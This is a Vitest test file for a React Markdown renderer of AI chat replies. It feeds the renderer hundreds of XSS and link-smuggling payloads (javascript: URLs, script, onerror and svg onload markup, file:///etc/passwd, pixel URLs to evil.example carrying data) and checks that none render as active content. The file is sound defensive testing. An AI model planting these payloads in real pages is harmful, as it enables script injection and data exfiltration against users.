// @vitest-environment happy-dom
import { flushSync } from 'react-dom'
import { createRoot, type Root } from 'react-dom/client'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { waitForReact } from '../testing/react-work.ts'
import { Markdown } from './markdown.tsx'

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#106;avascript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'ftp://evil.example/x',
  'view-source:javascript:alert(1)',
  '//evil.example/x',
  '/logout',
  'x" onclick="alert(1)',
  'https://evil.example/?q=secret',
]

const linkShapes = [
  (address: string) => `[click](${address})`,
  (address: string) => `[click](<${address}>)`,
  (address: string) => `[click](${address} "title")`,
  (address: string) => `<${address}>`,
  (address: string) => `[click][r]\n\n[r]: ${address}`,
  (address: string) => `[r]: ${address}\n\n[r]`,
  (address: string) => `![pixel](${address})`,
  (address: string) => `[![pixel](${address})](${address})`,
  (address: string) => `**[a *b](${address})***`,
  (address: string) => `- [ ] [x](${address})\n- y`,
  (address: string) => `| a |\n|---|\n| [x](${address}) |`,
  (address: string) => `> > [x](${address})`,
]

const markup = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel?d=1">',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(//evil.example)">x</div>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<x onclick=alert(1)//',
  '"><script>alert(1)</script>',
]

const markupShapes = [
  (html: string) => html,
  (html: string) => `text ${html} text`,
  (html: string) => `**${html}**`,
  (html: string) => `\`${html}\``,
  (html: string) => `\`\`\`${html}\n${html}\n\`\`\``,
  (html: string) => `# ${html}`,
  (html: string) => `1. ${html}\n   ${html}`,
  (html: string) => `| ${html} | b |\n|---|---|\n| ${html} | c |`,
  (html: string) => `[${html}](https://example.com)`,
  (html: string) => `![${html}](https://evil.example/p.png)`,
]

const corpus = [
  ...addresses.flatMap((address) => linkShapes.map((shape) => shape(address))),
  ...markup.flatMap((html) => markupShapes.map((shape) => shape(html))),
]

const allowedTags = new Set(
  'P STRONG EM DEL CODE BR A BLOCKQUOTE UL OL LI HR PRE DIV TABLE THEAD TBODY TR TH TD'.split(' '),
)
const allowedAttributes = new Set(
  'class href target rel start scope data-align tabindex role aria-label'.split(' '),
)

let root: Root
let box: HTMLElement

beforeAll(() => {
  box = document.createElement('div')
  document.body.append(box)
  root = createRoot(box)
})

// React finishes its scheduled work before the document is removed.
afterAll(async () => {
  flushSync(() => root.unmount())
  await waitForReact()
})

/** Elements, attributes and links of the rendered reply that are not allowed. */
function forbiddenParts(): string[] {
  return [...box.querySelectorAll('*')].flatMap((element) => {
    const attributes = [...element.attributes].filter(({ name }) => !allowedAttributes.has(name))
    const href = element.getAttribute('href')
    const isBadLink =
      href !== null &&
      (!/^(?:https?:\/\/|mailto:|tel:)/.test(href) ||
        element.getAttribute('rel') !== 'noopener noreferrer nofollow')
    return [
      ...(allowedTags.has(element.tagName) ? [] : [element.tagName]),
      ...attributes.map(({ name }) => `${element.tagName} ${name}`),
      ...(isBadLink ? [`link ${href}`] : []),
    ]
  })
}

function render(text: string, isPartial: boolean): void {
  flushSync(() => root.render(<Markdown text={text} isPartial={isPartial} />))
}

test('the corpus has at least 500 inputs', () => {
  expect(new Set(corpus).size).toBeGreaterThanOrEqual(500)
})

test.each([
  ['at once', Number.POSITIVE_INFINITY],
  ['in two halves', 2],
  ['in pieces of a few characters', 7],
])(
  'X087 CVE-2026-27740 no text of a reply can run, load or link anything forbidden, streamed %s',
  (_, parts) => {
    for (const text of corpus) {
      const length =
        parts === Number.POSITIVE_INFINITY ? text.length : Math.ceil(text.length / parts)
      for (let end = length; end < text.length; end += length) {
        render(text.slice(0, end), true)
        expect([text.slice(0, end), forbiddenParts()]).toEqual([text.slice(0, end), []])
      }
      render(text, false)
      expect([text, forbiddenParts()]).toEqual([text, []])
    }
  },
)

test('links of the four allowed schemes work', () => {
  render('[a](https://a.example/x) [m](mailto:a@b.example) [t](tel:+123) www.b.example', false)

  const links = [...box.querySelectorAll('a')].map((link) => link.getAttribute('href'))
  expect(links).toEqual([
    'https://a.example/x',
    'mailto:a@b.example',
    'tel:+123',
    'http://www.b.example/',
  ])
})

test('CVE-2025-32711 images become text, code is shown unchanged, and tables scroll in a focusable element', () => {
  render(
    '![a chart](https://a.example/x.png)\n\n`<b>&amp;`\n\n| a | b |\n|---|--:|\n| 1 | **2** |',
    false,
  )

  expect(box.querySelector('p')?.textContent).toBe('a chart')
  expect(box.querySelector('code')?.textContent).toBe('<b>&amp;')
  expect(box.querySelector('[role=group][aria-label=Table]')?.getAttribute('tabindex')).toBe('0')
  expect(box.querySelector('td[data-align=right] strong')?.textContent).toBe('2')
})

test('CVE-2025-32711 a link reference defined later turns the text before it into a link', () => {
  render('See [the guide][g].\n\n', true)
  render('See [the guide][g].\n\n[g]: https://a.example/', false)

  expect(box.querySelector('a')?.textContent).toBe('the guide')
})

test('very deeply nested text is shown without an error', () => {
  render(`${'>'.repeat(20_000)} deep`, false)
  render(`${'['.repeat(3_000)}x`, false)

  expect(box.textContent).toContain('x')
})
